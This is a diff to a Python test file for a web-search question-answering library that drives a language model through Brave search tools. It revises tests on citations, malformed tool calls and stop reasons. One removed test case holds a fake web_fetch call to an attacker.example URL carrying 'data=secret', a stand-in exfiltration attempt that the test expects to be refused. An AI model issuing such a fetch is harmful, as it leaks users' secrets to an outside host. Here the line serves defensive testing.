@@ -19,12 +19,12 @@ from tests.fakes.replies import (
     broken_stream,
     delay,
     error_event,
+    recorded,
     refusal,
     server_search,
     slow,
     stop,
     text,
-    thinking,
     tool_use,
     truncated,
     web_citation,
@@ -44,19 +44,6 @@ def test_an_answer_has_text_citations_sources_steps_and_cost(messages_api: Any, 
     assert isinstance(answer.cost_usd, Decimal) and answer.cost_usd > 0 and len(answer.steps) >= 2
     blocks = results_of(messages_api.bodies[1])[0]["content"]
     assert {block["type"] for block in blocks} == {"search_result"} and blocks[0]["source"] == RUBY["url"]
-
-
-def test_citations_are_checked_before_the_answer_is_final(messages_api: Any, brave_api: Any) -> None:
-    brave_api.reply([RUBY])
-    right, wrong = (
-        text(f"Ruby was designed by {who}.", citations=[(0, 0)]) for who in ("Yukihiro Matsumoto", "Guido van Rossum in 1989")
-    )
-    messages_api.replies(search("ruby author"), [right, " ", wrong, " Nice[7]."])
-    answer = web.ask("Who wrote Ruby?", provider="brave")
-    verdicts = answer.claims.set_index("sentence").verdict
-    assert verdicts.filter(like="Matsumoto").tolist() == ["supported"]
-    assert verdicts.filter(like="Guido").tolist() in (["partly"], ["unsupported"])
-    assert list(answer.sources.n) == [1], "a [7] that the model wrote itself is plain text"
 
 
 def test_parallel_calls_run_at_once_and_go_back_in_order(messages_api: Any, brave_api: Any) -> None:
@@ -80,15 +67,6 @@ def test_equal_searches_run_once_in_an_answer_and_are_cached_after_it(messages_a
     assert len(brave_api.queries) == 2
 
 
-def test_thinking_goes_back_unchanged_and_a_follow_up_continues(messages_api: Any, brave_api: Any) -> None:
-    messages_api.replies([thinking("Where would that be?"), search("ruby author")], "Matz.", "In Japan.")
-    web.ask("Who wrote Ruby?", provider="brave")
-    assert web.ask("Where does he live?", follow=True).text == "In Japan."
-    roles = [message["role"] for message in messages_api.bodies[-1]["messages"]]
-    assert roles == ["user", "assistant", "user", "assistant", "user"]
-    assert ["Where would that be?" in str(body) for body in messages_api.bodies] == [False, True, True]
-
-
 def test_the_session_streams_events_and_awaits(messages_api: Any, brave_api: Any, session: Any) -> None:
     messages_api.replies(["Let me look. ", search("ruby author")], ["One two three four five six seven eight.", slow(0.01)])
 
@@ -102,29 +80,23 @@ def test_the_session_streams_events_and_awaits(messages_api: Any, brave_api: Any
     assert "TextDelta" in names[names.index("ToolFinished") :] and run.answer.text.endswith("eight.")
 
 
-def test_the_blocking_functions_work_under_a_running_loop(messages_api: Any) -> None:
-    messages_api.reply("Yes.")
-
-    async def main() -> str:
-        return web.ask("Is it?").text
-
-    assert asyncio.run(main()) == "Yes."
-
-
 @pytest.mark.parametrize(
     ("call", "told"),
     [
         (tool_use("web_serch", {"query": "x"}), "web_serch"),
         (tool_use("web_search", {}), "query"),
-        (tool_use("web_fetch", {"url": "https://attacker.example/?data=secret"}), ""),
+        *((tool_use("web_search", given), "no JSON object") for given in (["ruby author"], "ruby author", 7)),  # type: ignore[arg-type]
+        (recorded("sdk_incomplete_partial_json_response.sse"), "no tool called 'make_file'"),
     ],
-    ids=["unknown tool", "bad input", "an address that nobody gave"],
 )
-def test_a_wrong_call_is_an_error_result(messages_api: Any, brave_api: Any, call: Any, told: str) -> None:
+def test_a_wrong_call_is_not_run_and_gets_an_error_result(messages_api: Any, brave_api: Any, call: Any, told: str) -> None:
+    """Of an input that is no object or was cut off, an empty one stays in the history."""
     messages_api.replies(call, "Then not.")
-    assert web.ask("Is it?").text == "Then not."
-    result = results_of(messages_api.bodies[1])[0]
+    assert web.ask("Is it?").text.endswith("Then not.")
+    (result,) = results_of(messages_api.bodies[1])
     assert result["is_error"] and told in str(result["content"]) and not brave_api.requests
+    sent = messages_api.bodies[1]["messages"][1]["content"]
+    assert all(block["input"] in ({}, {"query": "x"}) for block in sent if block["type"] == "tool_use")
 
 
 @pytest.mark.parametrize(
@@ -210,6 +182,8 @@ def test_a_budget_too_small_for_any_answer_sends_nothing(messages_api: Any) -> N
     ("ending", "reason", "shown"),
     [
         ([refusal("cyber")], "refusal", "declined"),
+        (["So far.", search("not run"), stop("refusal")], "refusal", "declined"),
+        (["So far.", search("not run"), stop("model_context_window_exceeded")], "model_context_window_exceeded", "cut off"),
         (["So far.", stop("max_tokens")], "max_tokens", ""),
         (["So far.", stop("model_context_window_exceeded")], "model_context_window_exceeded", ""),
         (["So far.", stop("stop_sequence", stop_sequence="END")], "stop_sequence", ""),
@@ -217,11 +191,13 @@ def test_a_budget_too_small_for_any_answer_sends_nothing(messages_api: Any) -> N
     ],
     ids=lambda value: value if isinstance(value, str) else "",
 )
-def test_every_stop_reason_is_kept_and_a_follow_up_is_possible(messages_api: Any, ending: Any, reason: str, shown: str) -> None:
+def test_every_stop_reason_is_kept_and_a_follow_up_is_possible(
+    messages_api: Any, brave_api: Any, ending: Any, reason: str, shown: str
+) -> None:
     messages_api.replies(ending, "Of course.")
     answer = web.ask("Who?")
     assert answer.stop_reason == reason and ("So far." in answer.text or reason == "refusal")
-    assert shown in " ".join(answer.notices)
+    assert shown in " ".join(answer.notices) and not brave_api.queries
     assert web.ask("And now?", follow=True).text == "Of course."
 
 
